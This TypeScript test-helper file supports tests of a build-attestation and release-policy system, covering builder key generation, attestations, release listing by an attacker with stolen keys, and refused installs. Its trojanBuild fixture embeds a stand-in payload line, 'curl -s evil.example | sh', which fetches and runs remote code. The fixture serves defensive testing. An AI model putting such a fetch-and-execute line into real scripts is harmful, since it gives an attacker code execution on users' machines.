/**
 * Helpers of the verified-builds tests: builders made with `bulwark attest keygen`, their
 * attestations made with `bulwark attest`, a release policy set and published with
 * `bulwark policy set`, and the attacker who lists releases with stolen online keys.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { after } from "node:test";
import { splitAttestationBundle } from "@bulwark/attest";
import type { ClientError } from "@bulwark/client";
import { RepoDir } from "@bulwark/publisher";
import type { TestLike } from "@bulwark/testkit";
import { BulwarkError } from "@bulwark/tuf";
import { tarGz } from "../src/quickstart/demo-archive.js";
import { type DirectListing, listWithStolenKeys } from "../src/quickstart/stolen-keys.js";
import { APP, demoFiles, type Endpoint, endpointState, Vendor } from "./e2e-helpers.js";
import { type CliRun, runCli, testOptions } from "./helpers.js";

export type { TestLike };

/** The release commit every honest builder checks out. */
export const SOURCE = `sha1:${createHash("sha1").update("app v1.2.0").digest("hex")}`;
/** Another commit: a build of it is a build of other source. */
export const OTHER_SOURCE = `sha1:${createHash("sha1").update("app v1.2.0 with an injected change").digest("hex")}`;
export const SOURCE_URI = "git+https://git.example/app@refs/tags/v1.2.0";

/** `repo init` options with a root key apart from the online keys (which tests steal). */
export const SEPARATE_ROOT = ["--root-keys", "1", "--root-threshold", "1"];

export function sha256(bytes: Uint8Array): string {
  return createHash("sha256").update(bytes).digest("hex");
}

/** What an honest build of `version` produces: the same bytes on every builder. */
export function genuineBuild(version: string): Buffer {
  return tarGz(demoFiles(version));
}

/** What the compromised builder produces for `version`: a trojan. */
export function trojanBuild(version: string): Buffer {
  return tarGz(demoFiles(version, { "bin/app": `#!/bin/sh\necho "app ${version}"\ncurl -s evil.example | sh\n` }));
}

/** A builder: its ID and key files. */
export interface Builder {
  readonly name: string;
  readonly id: string;
  readonly key: string;
  readonly pub: string;
}

/** Runs `bulwark argv` in process and fails the test unless it exits 0. */
export async function ok(argv: string[]): Promise<CliRun> {
  const run = await runCli(argv);
  assert.equal(run.code, 0, `bulwark ${argv.join(" ")} failed: ${run.stderr}`);
  return run;
}

/** `bulwark attest keygen` for each name, in `work/builders/`. */
export async function makeBuilders(work: string, names: readonly string[]): Promise<Builder[]> {
  mkdirSync(path.join(work, "builders"), { recursive: true });
  const out: Builder[] = [];
  for (const name of names) {
    const key = path.join(work, "builders", `${name}.pem`);
    await ok(["attest", "keygen", "--out", key]);
    out.push({
      name,
      id: `https://builder-${name.toLowerCase()}.example`,
      key,
      pub: key.replace(/\.pem$/, ".pub.json"),
    });
  }
  return out;
}

let counter = 0;

/** Writes `bytes` as `fileName` in a new folder under `work`; returns its path. */
export function writeArtifact(work: string, fileName: string, bytes: Uint8Array): string {
  const dir = path.join(work, "artifacts", String(++counter));
  mkdirSync(dir, { recursive: true });
  const file = path.join(dir, fileName);
  writeFileSync(file, bytes);
  return file;
}

/**
 * `bulwark attest` of `artifact` by `builder`; returns the attestation file. It binds
 * release 1.2.0 (the tag in {@link SOURCE_URI}) unless `version` names another: then the
 * tag built is `v<version>` and `--version` records it too.
 */
export async function attest(
  builder: Builder,
  artifact: string,
  options: { source?: string; builderId?: string; version?: string } = {},
): Promise<string> {
  const out = `${artifact}.${builder.name}.${++counter}.intoto.jsonl`;
  const release =
    options.version === undefined
      ? ["--source-uri", SOURCE_URI]
      : ["--source-uri", `git+https://git.example/app@refs/tags/v${options.version}`, "--version", options.version];
  await ok([
    ...["attest", "--key", builder.key, "--artifact", artifact, "--out", out],
    ...[...release, "--source-digest", options.source ?? SOURCE],
    ...["--builder-id", options.builderId ?? builder.id],
  ]);
  return out;
}

/** `bulwark policy set DIR --product app` with these builders and threshold. */
export function setPolicy(dir: string, builders: readonly Builder[], threshold: number, extra: string[] = []) {
  return runCli([
    ...["policy", "set", dir, "--product", APP, "--threshold", String(threshold), ...extra],
    ...builders.flatMap((b) => ["--builder", `${b.id}=${b.pub}`]),
  ]);
}

/** `bulwark release add DIR FILE --name app --version V --source-digest S --attestation ...`. */
export function releaseAdd(
  dir: string,
  file: string,
  version: string,
  attestations: readonly string[],
  extra: string[] = [],
) {
  return runCli([
    ...["release", "add", dir, file, "--name", APP, "--version", version, "--source-digest", SOURCE],
    ...attestations.flatMap((a) => ["--attestation", a]),
    ...extra,
    "--json",
  ]);
}

/** The error a `--json` run printed. */
export function errorOf(run: CliRun): { code: string; message: string } {
  const error = run.json<{ error?: { code: string; message: string } }>().error;
  assert.ok(error, `expected an error, got exit ${run.code}: ${run.stdout}`);
  return error;
}

/** The repository folder `dir`, opened as the CLI would (keys unlocked, output silent). */
export function openRepo(dir: string): Promise<RepoDir> {
  return RepoDir.open(dir, testOptions());
}

/** The attacker with the online keys lists a release directly (see {@link listWithStolenKeys}). */
export async function listDirectly(vendor: Vendor, listing: Omit<DirectListing, "name">): Promise<void> {
  await listWithStolenKeys(await openRepo(vendor.dir), { name: APP, ...listing });
}

/** The envelopes of attestation files, concatenated as one bundle. */
export function bundleOf(...files: Buffer[]): Buffer {
  return Buffer.concat(files.flatMap((f) => splitAttestationBundle(f).flatMap((e) => [e, Buffer.from("\n")])));
}

/** Asserts that installing `version` on `ep` is refused with `code`, leaving the endpoint as it was. */
export async function refusedInstall(
  ep: Endpoint,
  version: string,
  code: string,
  message?: RegExp,
): Promise<ClientError> {
  const before = endpointState(ep);
  const release = (await ep.client.releases()).find((r) => r.version === version);
  assert.ok(release, `${version} is offered`);
  let caught: unknown;
  await assert.rejects(ep.client.install(release), (error: unknown) => {
    caught = error;
    assert.ok(error instanceof BulwarkError, `expected a typed error, got ${String(error)}`);
    assert.equal(error.code, code, error.message);
    if (message) assert.match(error.message, message);
    return true;
  });
  assert.deepEqual(endpointState(ep), before, "nothing was installed or changed");
  return caught as ClientError;
}

/**
 * A test scope for `describe` blocks: one fixture built in a `before` hook, cleaned up by
 * the `after` hook that this registers.
 */
export function sharedScope(): TestLike {
  const cleanups: Array<() => void | Promise<void>> = [];
  after(async () => {
    for (const fn of cleanups.reverse()) await fn();
  });
  return { after: (fn) => cleanups.push(fn) };
}

/**
 * A vendor (root key apart from the online keys) whose root requires 2 of builders A, B
 * and C for `app`, published; and those builders.
 */
export async function vendorWithPolicy(t: TestLike, threshold = 2): Promise<{ vendor: Vendor; builders: Builder[] }> {
  const vendor = await Vendor.create(t, SEPARATE_ROOT);
  const builders = await makeBuilders(vendor.work, ["A", "B", "C"]);
  const set = await setPolicy(vendor.dir, builders, threshold);
  assert.equal(set.code, 0, set.stderr);
  await vendor.publish();
  return { vendor, builders };
}
